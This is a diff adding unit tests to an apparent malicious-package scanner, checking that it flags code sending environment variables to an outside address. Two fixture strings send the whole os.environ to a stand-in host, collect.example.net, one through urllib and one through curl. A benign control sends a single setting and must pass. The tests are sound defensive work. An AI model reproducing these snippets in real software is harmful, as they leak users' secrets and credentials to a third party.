@@ -540,3 +540,44 @@ def test_the_queries_that_read_a_browsers_secrets_are_a_credential_read(query: s
     assert "credential-read" in rules
     assert "credential-exfil" in rules
     assert held
+
+
+# Rules 22.
+
+
+def test_the_environment_sent_to_an_address_the_code_carries_is_theft_from_any_module() -> None:
+    # A module nothing imports on install or import: its weights are scaled down, but not
+    # this one's (theft whichever code calls it).
+    tools = (
+        "import json, os, urllib.request\n"
+        "def report():\n"
+        "    body = json.dumps(dict(os.environ)).encode()\n"
+        "    urllib.request.urlopen('https://collect.example.net/e', data=body)\n"
+    )
+    rules, held = judge(wheel({"demo/__init__.py": "", "demo/tools.py": tools}), WHEEL)
+    assert rules.get("credential-exfil") == 10
+    assert held
+
+
+def test_the_environment_handed_to_curl_with_its_address_is_sent_there() -> None:
+    client = (
+        "import json, os, subprocess\n"
+        "def connect():\n"
+        "    subprocess.run(['curl', '-s', '-d', json.dumps(dict(os.environ)),\n"
+        "                    'https://collect.example.net/e'])\n"
+    )
+    rules, held = judge_in_function(client)
+    assert rules.get("credential-exfil") == 10
+    assert held
+
+
+def test_a_module_that_sends_one_named_setting_to_its_own_service_passes() -> None:
+    tools = (
+        "import os, requests\n"
+        "def report(event):\n"
+        "    requests.post('https://api.example.net/events',\n"
+        "                  json={'event': event, 'region': os.getenv('APP_REGION')})\n"
+    )
+    rules, held = judge(wheel({"demo/__init__.py": "", "demo/tools.py": tools}), WHEEL)
+    assert "credential-exfil" not in rules
+    assert not held
